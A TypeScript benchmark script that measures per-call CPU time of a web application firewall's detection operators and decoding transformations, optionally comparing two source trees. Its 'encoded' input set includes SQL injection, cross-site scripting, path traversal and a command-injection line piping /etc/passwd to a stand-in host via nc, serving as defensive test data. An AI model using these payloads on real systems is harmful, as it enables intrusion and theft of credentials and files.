/**
 * CPU time per call of the WAF's hot operators and transformations on realistic request values.
 *
 *   npx tsx bench/waf-ops.bench.ts [--filter <substr>]
 *   npx tsx bench/waf-ops.bench.ts --against <dir> [--filter <substr>]
 *
 * Values come in two sets: `plain`, the leaves of the gateway harness's requests
 * (../shared/bench/workloads.mjs: header values with a JWT, the 1 KB order document's keys and
 * values) and other everyday form values (names, e-mails, numbers, UUIDs, dates, paths); and
 * `encoded`, values a decoder has work on (percent, entity, backslash escapes, UTF-8) and
 * attacks. Each row is the mean over one set, in ns per call (one value).
 *
 * With --against, `<dir>/src/waf` is a second copy of the WAF modules, e.g. the tree before a
 * change: `mkdir /tmp/old && git archive <rev> package.json tsconfig.json src/waf | tar -x -C
 * /tmp/old` (without package.json, tsx loads the copy as CommonJS, whose exports are getters:
 * an unfair comparison, so the bench refuses such a directory). Both are loaded
 * into this process and measured in interleaved rounds (A, B, B, A, ...), so that a busy
 * neighbour slows both alike; each figure is the median of the rounds, in CPU time
 * (process.cpuUsage). Run it alone: `flock /tmp/portcullis-bench.lock npx tsx bench/...`.
 */
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join, resolve } from 'node:path';

interface Tx {
  expandMacros(text: string): string;
  readonly capturing: boolean;
  setCapture(index: number, value: string): void;
  setMatchedData(value: string): void;
}
interface Operator {
  evaluate(tx: Tx, input: string): boolean;
}
type OperatorFactory = (argument: string, options: { baseDir: string }) => Operator;

/** One copy of the modules under test. */
interface Impl {
  readonly name: string;
  readonly transformations: ReadonlyMap<string, (input: string) => string>;
  readonly operators: ReadonlyMap<string, OperatorFactory>;
  readonly detectSQLi: (input: string) => unknown;
  readonly detectXSS: (input: string) => unknown;
}

const argv = process.argv.slice(2);
const option = (name: string): string | undefined => {
  const at = argv.indexOf(name);
  return at === -1 ? undefined : argv[at + 1];
};
const filter = option('--filter');
/** Set in the child process that measures one case (see the end of this file). */
const only = option('--case');
const against = option('--against');
const root = resolve(import.meta.dirname, '..');
const shared = resolve(root, '..', 'shared');
const crsRules = join(shared, 'crs', 'rules');

async function load(name: string, dir: string): Promise<Impl> {
  if (!existsSync(join(dir, 'package.json'))) {
    console.error(`${dir} needs the repository's package.json (ES modules), see the header of this file`);
    process.exit(2);
  }
  const waf = join(dir, 'src', 'waf');
  const t = await import(join(waf, 'transformations', 'registry.ts'));
  const o = await import(join(waf, 'operators', 'registry.ts'));
  const l = await import(join(waf, 'libinjection', 'index.ts'));
  return {
    name,
    transformations: t.TRANSFORMATIONS,
    operators: o.OPERATORS,
    detectSQLi: l.detectSQLi,
    detectXSS: l.detectXSS,
  };
}

const impls: Impl[] = [await load('this tree', root)];
if (against !== undefined) impls.unshift(await load('against', resolve(against)));

// --- values -----------------------------------------------------------------------------------

/** Every string leaf of a JSON document, and its keys, as CRS sees ARGS_NAMES and ARGS. */
function leaves(value: unknown, out: string[]): string[] {
  if (typeof value === 'string') out.push(value);
  else if (typeof value === 'number' || typeof value === 'boolean') out.push(String(value));
  else if (Array.isArray(value)) for (const v of value) leaves(v, out);
  else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push(k);
      leaves(v, out);
    }
  }
  return out;
}

const harnessFile = join(shared, 'bench', 'workloads.mjs');
const harnessValues: string[] = [];
if (existsSync(harnessFile)) {
  const { WORKLOADS } = (await import(harnessFile)) as {
    WORKLOADS: Record<string, { path: string; headers: Record<string, string>; body: string | null }>;
  };
  const post = WORKLOADS.post;
  if (post !== undefined) {
    harnessValues.push(post.path, ...Object.values(post.headers));
    if (post.body !== null) leaves(JSON.parse(post.body), harnessValues);
  }
}

/** One char per byte, as the engine hands values to operators. */
const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

const PLAIN = [
  ...harnessValues,
  'id',
  '42',
  'Jane',
  'Müller-Lüdenscheidt',
  'jane.doe+shop@example.co.uk',
  '3.14159',
  '-17',
  '2026-01-15',
  '3f2c1c9e-8a7b-4d1e-9f55-2b6a0c4d7e81',
  '/shop/items/WID-0042/reviews',
  'The quick brown fox jumps over the lazy dog.',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15',
  'session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; lang=en',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'true',
  '',
].map(latin1);

const ENCODED = [
  'q=caf%C3%A9%20au%20lait&x=1+2',
  '%u0041%uff41%u201c',
  'Tom &amp; Jerry &lt;3 &#39;quoted&#x27;',
  'C:\\Program Files\\App\\bin',
  '\\x3cscript\\u003e',
  'Zürich, Genève, Kraków',
  '東京都渋谷区',
  "1' OR '1'='1",
  "admin'--",
  '1 UNION SELECT username, password FROM users--',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(document.cookie)</script>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '; cat /etc/passwd | nc evil.example 4444',
  'a\u0000b/*c*/d  \t e',
].map(latin1);

const SETS: [string, string[]][] = [
  ['plain', PLAIN],
  ['encoded', ENCODED],
];

// --- cases ------------------------------------------------------------------------------------

const TX: Tx = {
  expandMacros: (text) => text,
  capturing: false,
  setCapture: () => {},
  setMatchedData: () => {},
};

interface Case {
  readonly name: string;
  /** One closure per implementation, called once per value. */
  readonly run: ((value: string) => unknown)[];
}

function operatorCase(name: string, operator: string, argument: string): Case {
  return {
    name,
    run: impls.map((impl) => {
      const op = (impl.operators.get(operator) as OperatorFactory)(argument, { baseDir: crsRules });
      return (value: string) => op.evaluate(TX, value);
    }),
  };
}

/** The data files CRS's request rules give @pmFromFile. */
const PM_FILES = [
  'lfi-os-files.data',
  'restricted-files.data',
  'unix-shell.data',
  'windows-powershell-commands.data',
  'php-function-names-933150.data',
  'java-classes.data',
  'ssrf.data',
  'scanners-user-agents.data',
];

/** What CRS uses, by number of rules that name it (grep t: rules/*.conf). */
const TRANSFORMATION_NAMES = [
  'urlDecodeUni',
  'lowercase',
  'jsDecode',
  'htmlEntityDecode',
  'utf8toUnicode',
  'removeNulls',
  'cssDecode',
  'cmdLine',
  'removeWhitespace',
  'replaceComments',
  'normalizePath',
  'escapeSeqDecode',
  'compressWhitespace',
  'normalizePathWin',
  'removeCommentsChar',
  'length',
  'base64Decode',
  'hexEncode',
  'sha1',
];

const CASES: Case[] = [
  { name: '@detectSQLi', run: impls.map((i) => i.detectSQLi) },
  { name: '@detectXSS', run: impls.map((i) => i.detectXSS) },
  ...PM_FILES.map((file) => operatorCase(`@pmFromFile ${file}`, 'pmFromFile', file)),
  operatorCase('@pm (CRS 920600-like list)', 'pm', 'nikto sqlmap nmap masscan dirbuster |00| acunetix'),
  operatorCase('@validateByteRange 32-36,38-126', 'validateByteRange', '32-36,38-126'),
  operatorCase('@validateByteRange 1-255', 'validateByteRange', '1-255'),
  operatorCase('@validateUtf8Encoding', 'validateUtf8Encoding', ''),
  ...TRANSFORMATION_NAMES.map(
    (name): Case => ({
      name: `t:${name}`,
      run: impls.map((impl) => impl.transformations.get(name) as (input: string) => string),
    }),
  ),
].filter((c) => (only === undefined ? filter === undefined || c.name.includes(filter) : c.name === only));

// --- measurement --------------------------------------------------------------------------------

let sink = 0;
function consume(result: unknown): void {
  if (result === true || (typeof result === 'string' && result.length === 1)) sink++;
}

/**
 * The timed loop, compiled once per case and copy (`new Function` gives each its own function
 * literal, so V8 keeps separate type feedback: the call to `run` stays monomorphic, and one
 * copy's feedback does not slow the other's).
 */
type Loop = (run: (value: string) => unknown, values: readonly string[], iterations: number) => number;
function makeLoop(): Loop {
  return new Function(
    'consume',
    `return function loop(run, values, iterations) {
      const start = process.cpuUsage();
      for (let k = 0; k < iterations; k++) for (let j = 0; j < values.length; j++) consume(run(values[j]));
      const used = process.cpuUsage(start);
      return ((used.user + used.system) * 1000) / (iterations * values.length);
    };`,
  )(consume) as Loop;
}

/** Passes per round so that one round takes about `ms` of CPU. */
function calibrate(run: (value: string) => unknown, values: readonly string[], ms: number): number {
  let iterations = 1;
  for (;;) {
    const start = performance.now();
    for (let k = 0; k < iterations; k++) for (const v of values) consume(run(v));
    const took = performance.now() - start;
    if (took > ms / 4) return Math.max(1, Math.round((iterations * ms) / took));
    iterations *= 4;
  }
}

const ROUNDS = 15;
const ROUND_MS = 40;
/**
 * Warm-up per copy before any timing: until V8 has optimised the code, compiler threads add CPU
 * time to the process (process.cpuUsage counts every thread) and the rounds measure the JIT.
 */
const WARM_MS = 400;

function warm(run: (value: string) => unknown, values: readonly string[]): void {
  const start = performance.now();
  while (performance.now() - start < WARM_MS) for (const v of values) consume(run(v));
}

function median(xs: number[]): number {
  const sorted = [...xs].sort((a, b) => a - b);
  return sorted[sorted.length >> 1] as number;
}

function fmt(ns: number): string {
  return ns >= 10_000 ? `${(ns / 1000).toFixed(1)} µs` : `${ns.toFixed(0)} ns`;
}

if (only === undefined) {
  // Each case runs in a fresh process: what V8 learned from the cases before it (inlining,
  // shared helpers' type feedback, heap state) otherwise skews one copy against the other.
  const header = impls.length === 2 ? `${'before'.padStart(10)} ${'after'.padStart(10)}  ratio` : 'per call';
  console.log(`values: plain ${PLAIN.length}, encoded ${ENCODED.length}; median of ${ROUNDS} interleaved rounds`);
  console.log(`${'case'.padEnd(46)} ${'set'.padEnd(8)} ${header}`);
  const self = [...process.execArgv, process.argv[1] as string];
  const passOn = against === undefined ? [] : ['--against', against];
  for (const c of CASES) {
    const child = spawnSync(process.execPath, [...self, ...passOn, '--case', c.name], { stdio: 'inherit' });
    if (child.status !== 0) process.exit(child.status ?? 1);
  }
} else {
  for (const c of CASES) measureCase(c);
}

function measureCase(c: Case): void {
  for (const [setName, values] of SETS) {
    const loops = c.run.map(makeLoop);
    for (const [i, run] of c.run.entries()) {
      warm(run, values);
      (loops[i] as Loop)(run, values, 50);
    }
    const iterations = calibrate(c.run[c.run.length - 1] as (value: string) => unknown, values, ROUND_MS);
    const samples: number[][] = c.run.map(() => []);
    for (let r = 0; r < ROUNDS; r++) {
      // Alternate which copy goes first, so that neither always runs on a warmer cache.
      const order = r % 2 === 0 ? c.run.map((_f, i) => i) : c.run.map((_f, i) => i).reverse();
      for (const i of order) {
        (samples[i] as number[]).push((loops[i] as Loop)(c.run[i] as (v: string) => unknown, values, iterations));
      }
    }
    const medians = samples.map(median);
    const cells = medians.map((m) => fmt(m).padStart(10)).join(' ');
    const ratio = medians.length === 2 ? `  ${((medians[0] as number) / (medians[1] as number)).toFixed(2)}x` : '';
    console.log(`${c.name.padEnd(46)} ${setName.padEnd(8)} ${cells}${ratio}`);
  }
  if (sink < 0) console.log(sink);
}
